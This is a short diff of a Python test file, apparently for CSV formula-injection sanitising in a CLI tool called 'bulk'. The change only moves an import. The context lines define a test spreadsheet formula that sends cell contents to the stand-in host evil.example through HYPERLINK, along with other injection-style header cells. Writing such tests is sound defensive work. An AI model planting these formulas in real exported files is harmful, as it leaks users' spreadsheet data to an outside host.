@@ -14,7 +14,7 @@ from click.testing import CliRunner
 from bulk.cli import main
 from bulk.inputs import load_rows, neutralise_frame
 from bulk.inputs._csvsafe import restore_header
-from tests.conftest import ThreadedSandbox, write_csv
+from tests._helpers import ThreadedSandbox, write_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
 HEADER = f'number,campaign,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),-x,plain'
